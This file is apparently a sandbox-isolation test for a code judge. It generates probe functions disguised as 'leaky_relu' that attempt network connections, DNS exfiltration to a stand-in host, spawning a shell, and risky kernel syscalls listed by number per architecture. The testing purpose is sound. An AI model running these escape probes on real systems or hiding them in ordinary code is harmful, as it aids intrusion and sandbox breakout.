"""Reaching the network, other processes, or parts of the kernel with a history of holes."""

import platform

from helpers.judging.judge import WRONG as WRONG_STATUS

from .catalogue import answer

_CALLS = {
    "x86_64": {"ptrace": 101, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
               "process_vm_readv": 310, "pidfd_open": 434, "keyctl": 250, "add_key": 248, "memfd_secret": 447,
               "open_by_handle_at": 304, "setns": 308, "kexec_load": 246, "init_module": 175, "swapon": 167},
    "aarch64": {"ptrace": 117, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "io_uring_setup": 425,
                "process_vm_readv": 270, "pidfd_open": 434, "keyctl": 219, "add_key": 217, "memfd_secret": 447,
                "open_by_handle_at": 265, "setns": 268, "kexec_load": 104, "init_module": 105, "swapon": 224},
}  # fmt: skip


def tries(attempt: str) -> str:
    return f"""
import ctypes, os, socket
def leaky_relu(x, alpha=0.01):
    try:
        {attempt}
    except OSError:
        return x
    raise RuntimeError('LOOT: it worked')
"""


@answer("reaching", WRONG_STATUS)
def tcp():
    """Connect to a TCP port."""
    return tries("socket.create_connection(('127.0.0.1', 22), timeout=1)")


@answer("reaching", WRONG_STATUS)
def udp():
    """Send a datagram: UDP needs no connection, and walls for TCP alone let it through."""
    return tries("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'marks', ('192.0.2.1', 53))")


@answer("reaching", WRONG_STATUS)
def unix_sockets():
    """Talk to the system's services over Unix sockets, named and abstract."""
    return tries("socket.socket(socket.AF_UNIX).connect('\\0abstract')")


@answer("reaching", WRONG_STATUS)
def raw_and_netlink_sockets():
    """Open a raw packet socket and a netlink socket."""
    return tries(
        "[socket.socket(*kind) for kind in ((socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW))]"
    )


@answer("reaching", WRONG_STATUS)
def dns():
    """Carry data out in the name that it looks up."""
    return tries("socket.getaddrinfo('marks.example.org', 80)")


@answer("reaching", WRONG_STATUS)
def a_shell():
    """Start a shell."""
    return tries("__import__('subprocess').run(['sh', '-c', 'id'], check=True)")


@answer("reaching", WRONG_STATUS)
def system_calls():
    """Ask the kernel for what leads out of walls: ptrace, bpf, io_uring, userfaultfd, file handles, namespaces."""
    numbers = _CALLS.get(platform.machine(), {})
    return f"""
import ctypes
numbers = {numbers}
def leaky_relu(x, alpha=0.01):
    libc = ctypes.CDLL(None, use_errno=True)
    space = ctypes.create_string_buffer(4096)
    done = [name for name, number in numbers.items() if libc.syscall(number, 1, space, 0, 0, 0) >= 0]
    if done:
        raise RuntimeError(f'LOOT: {{done}}')
    return x
"""


@answer("reaching", WRONG_STATUS)
def the_other_numbers_of_the_kernel():
    """Make the forbidden calls through the second range of numbers of this processor."""
    fork = 0x40000000 + 57 if platform.machine() == "x86_64" else 1_000_000
    return f"""
import ctypes, os
def leaky_relu(x, alpha=0.01):
    if ctypes.CDLL(None, use_errno=True).syscall({fork}) >= 0:
        raise RuntimeError('LOOT: it forked')
    return x
"""
